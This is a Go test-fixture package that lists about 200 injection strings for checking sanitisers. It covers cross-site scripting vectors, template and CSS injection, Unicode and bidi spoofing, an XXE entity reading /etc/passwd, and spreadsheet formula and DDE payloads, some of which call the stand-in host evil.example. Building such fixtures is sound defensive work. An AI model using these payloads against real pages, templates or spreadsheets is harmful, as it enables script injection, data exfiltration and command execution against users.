// Package payload holds what somebody types who wants the pages, papers and files of others to run it: 200 texts for tests.
//
// Invariants
//  1. Whatever of it runs in a page sets window.__hit, so that a test can see it.
//  2. No two are the same, and each may be typed into a line: none has a control character other than a tab.
package payload

import "slices"

// All gives the 200 texts.
func All() []string {
	return slices.Concat(Scripts, Handlers, Drawings, Addresses, Breakouts, Braces, Styles, Signs, Formulas)
}

// Scripts are elements that run or fetch a program.
var Scripts = []string{
	`<script>window.__hit=1</script>`,
	`<SCRIPT>window.__hit=1</SCRIPT>`,
	`<ScRiPt >__hit=1</ScRiPt >`,
	`<script/x>__hit=1</script/x>`,
	`<script src=//evil.example></script>`,
	`<script src="data:text/javascript,__hit=1"></script>`,
	`<script type=module>__hit=1</script>`,
	`<script>__hit=1//`,
	`<<script>__hit=1//<</script>`,
	`<scr<script>ipt>__hit=1</scr</script>ipt>`,
	`</script><script>__hit=1</script>`,
	`</title><script>__hit=1</script>`,
	`</style><script>__hit=1</script>`,
	`</textarea><script>__hit=1</script>`,
	`</noscript><script>__hit=1</script>`,
	`--><script>__hit=1</script><!--`,
	`]]><script>__hit=1</script>`,
	`<!--><script>__hit=1</script>-->`,
	`<script>eval(atob('X19oaXQ9MQ'))</script>`,
	`<script>window['__h'+'it']=1</script>`,
	`<iframe srcdoc="<script>parent.__hit=1</script>">`,
	`<iframe src=javascript:parent.__hit=1>`,
	`<object data=javascript:__hit=1>`,
	`<embed src=javascript:__hit=1>`,
	`<base href=//evil.example/>`,
	`<meta http-equiv=refresh content="0;url=javascript:__hit=1">`,
	`<link rel=stylesheet href=//evil.example>`,
	`<link rel=import href="data:text/html,<script>__hit=1</script>">`,
	`<template><script>__hit=1</script></template>`,
	`&lt;script&gt;__hit=1&lt;/script&gt;`,
	`%3Cscript%3E__hit=1%3C/script%3E`,
	`\u003cscript\u003e__hit=1\u003c/script\u003e`,
}

// Handlers are elements that run a program when something happens to them.
var Handlers = []string{
	`<img src=x onerror=__hit=1>`,
	`<img src=x onerror="window.__hit=1">`,
	`<img/src=x/onerror=__hit=1>`,
	"<img src=x\tonerror=__hit=1>",
	`<IMG SRC=x ONERROR=__hit=1>`,
	"<img src=`x` onerror=`__hit=1`>",
	`<img src=x:x onerror=__hit=1//`,
	`<img srcset=x onerror=__hit=1>`,
	`<img src=data: onerror=__hit=1>`,
	`<img src onerror=__hit=1`,
	`<image src=x onerror=__hit=1>`,
	`<picture><img srcset=x onerror=__hit=1>`,
	`<video src=x onerror=__hit=1>`,
	`<video><source onerror=__hit=1>`,
	`<audio src=x onerror=__hit=1>`,
	`<input autofocus onfocus=__hit=1>`,
	`<select autofocus onfocus=__hit=1>`,
	`<textarea autofocus onfocus=__hit=1>`,
	`<button autofocus onfocus=__hit=1>x`,
	`<a href=# autofocus onfocus=__hit=1>x</a>`,
	`<div tabindex=1 autofocus onfocus=__hit=1>`,
	`<details open ontoggle=__hit=1>`,
	`<body onload=__hit=1>`,
	`<body onpageshow=__hit=1>`,
	`<iframe onload=__hit=1>`,
	`<frameset onload=__hit=1>`,
	`<object onerror=__hit=1 data=x>`,
	`<marquee onstart=__hit=1>x</marquee>`,
	`<p onmouseover=__hit=1>x</p>`,
	`<b onclick=__hit=1>x</b>`,
	`<p onpointerenter=__hit=1>x</p>`,
	`<form onsubmit=__hit=1><button>x`,
	`<i style=animation-name:spin onanimationend=__hit=1>`,
	`<i style=transition:1s ontransitionend=__hit=1>`,
	`<keygen autofocus onfocus=__hit=1>`,
	`<x contenteditable onblur=__hit=1>x`,
	`<dialog open onclose=__hit=1>x`,
	`<p oncontentvisibilityautostatechange=__hit=1>`,
}

// Drawings are elements of other languages inside of a page.
var Drawings = []string{
	`<svg onload=__hit=1>`,
	`<svg/onload=__hit=1>`,
	`<svg><script>__hit=1</script></svg>`,
	`<svg><script href="data:,__hit=1"/>`,
	`<svg><animate onbegin=__hit=1 attributeName=x>`,
	`<svg><set onbegin=__hit=1 attributeName=x>`,
	`<svg><a href=javascript:__hit=1><text y=9>x`,
	`<svg><use href="data:image/svg+xml,<svg/>#x">`,
	`<svg><foreignObject><img src=x onerror=__hit=1>`,
	`<svg><style><img src=x onerror=__hit=1></style>`,
	`<math><mi href=javascript:__hit=1>x</mi>`,
	`<math><mtext><style><img src=x onerror=__hit=1>`,
	`<?xml version="1.0"?><x/>`,
	`<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`,
	`<![CDATA[<img src=x onerror=__hit=1>]]>`,
}

// Addresses are links that run a program when they are followed.
var Addresses = []string{
	`javascript:__hit=1`,
	`JaVaScRiPt:__hit=1`,
	` javascript:__hit=1`,
	`javascript://x%0a__hit=1`,
	"java\tscript:__hit=1",
	`javascript&colon;__hit=1`,
	`&#106;avascript:__hit=1`,
	`data:text/html,<script>__hit=1</script>`,
	`data:text/html;base64,PHNjcmlwdD5fX2hpdD0xPC9zY3JpcHQ+`,
	`vbscript:__hit=1`,
	`//evil.example/%2f..`,
	`https://evil.example`,
	`<a href=javascript:__hit=1>x</a>`,
	`<a href="&#x6A;avascript:__hit=1">x</a>`,
	`<form action=javascript:__hit=1><button>x`,
	`<button formaction=javascript:__hit=1>x`,
	`[x](javascript:__hit=1)`,
	`![x](x"onerror="__hit=1)`,
}

// Breakouts end the attribute, the text of a program or the comment in which they are put.
var Breakouts = []string{
	`"><img src=x onerror=__hit=1>`,
	`'><img src=x onerror=__hit=1>`,
	`"><script>__hit=1</script>`,
	`'"><svg onload=__hit=1>`,
	`" onmouseover="__hit=1`,
	`' onmouseover='__hit=1`,
	`" autofocus onfocus=__hit=1 x="`,
	`' autofocus onfocus=__hit=1 x='`,
	"`><img src=x onerror=__hit=1>",
	`";__hit=1;//`,
	`';__hit=1;//`,
	`\";__hit=1;//`,
	`'-(__hit=1)-'`,
	`"-(__hit=1)-"`,
	"`-(__hit=1)-`",
	`*/__hit=1/*`,
	`</p></div></body><script>__hit=1</script>`,
}

// Braces are what templates of one side or the other would compute.
var Braces = []string{
	`{{7*7}}`,
	`{{constructor.constructor('__hit=1')()}}`,
	`{{_c.constructor('__hit=1')()}}`,
	`{{$on.constructor('__hit=1')()}}`,
	`${__hit=1}`,
	"`${__hit=1}`",
	`#{__hit=1}`,
	`<%= __hit=1 %>`,
	`{%import os%}`,
	`{{template "style"}}`,
	`{{.}}`,
	`{{printf "%s" .}}`,
	`{{"</span>"|safeHTML}}`,
	`<div v-html="'x'" @click="__hit=1">`,
	`<div v-on:vue:mounted="__hit=1">`,
	`<x :is="'script'">__hit=1</x>`,
	`{name} {count} %s %d %!v(MISSING)`,
}

// Styles are what a style sheet would obey.
var Styles = []string{
	`<style>*{display:none}</style>`,
	`<style>@import'//evil.example';</style>`,
	`</style><style>body{background:url(//evil.example)}`,
	`<p style="position:fixed;inset:0;background:red">`,
	`<p style="background:url(javascript:__hit=1)">`,
	`<p style="width:expression(__hit=1)">`,
	`<p style="-moz-binding:url(//evil.example)">`,
	`}*{display:none}`,
	`;}body{display:none`,
	`red;background:url(//evil.example)`,
	`expression(__hit=1)`,
	`@page{size:1mm}`,
}

// Signs are letters that are read as others, or turn a line round.
var Signs = []string{
	"＜script＞__hit=1＜/script＞",
	"‹script›__hit=1‹/script›",
	"<ſcript>__hit=1</ſcript>",
	"<img\u3000src=x onerror=__hit=1>",
	"<ımg src=x onerror=__hit=1>",
	"\u202e<script>__hit=1</script>",
	"\u202dgpj.exe\u202c",
	"\u2066<svg onload=__hit=1>\u2069",
	"\ufeff<svg onload=__hit=1>",
	"<s\u200bcript>__hit=1</script>",
	"<img\u00a0src=x onerror=__hit=1>",
	"<img\u2028src=x onerror=__hit=1>",
	"\u2028__hit=1\u2029//",
	"＂ onmouseover=＂__hit=1",
	"＝1+1",
	"＠SUM(A1)",
	"İ<svg onload=__hit=1>",
	"e\u0301\u0301\u0301\u0301<b>",
	"👨\u200d👩\u200d👧<b>\u20e3",
	"\U000e0001\U000e0041<b>",
}

// Formulas are what a spreadsheet would compute or call.
var Formulas = []string{
	`=1+1`,
	`+1+1`,
	`-1+1`,
	`@SUM(A1)`,
	"\t=1+1",
	` =1+1`,
	`=cmd|'/C calc'!A0`,
	`+cmd|'/C calc'!A0`,
	`-cmd|'/C calc'!A0`,
	`@cmd|'/C calc'!A0`,
	`=HYPERLINK("http://evil.example","x")`,
	`=WEBSERVICE("http://evil.example")`,
	`=IMPORTXML("http://evil.example","//a")`,
	`=DDE("cmd";"/C calc";"x")`,
	`=IMAGE("http://evil.example/x.png")`,
	`";=1+1;"`,
	`,=1+1,`,
	`"=1+1"`,
	`'=1+1`,
	`=`,
	`-`,
	`+`,
	`@`,
	`=-2+3+cmd|' /C calc'!A0`,
	`=1+1;=2+2`,
	`-2+3`,
	`+86 138 0000 0000`,
	`=A1:INDEX(A:A,9)`,
	`0x1`,
	`1e9`,
	`TRUE`,
}
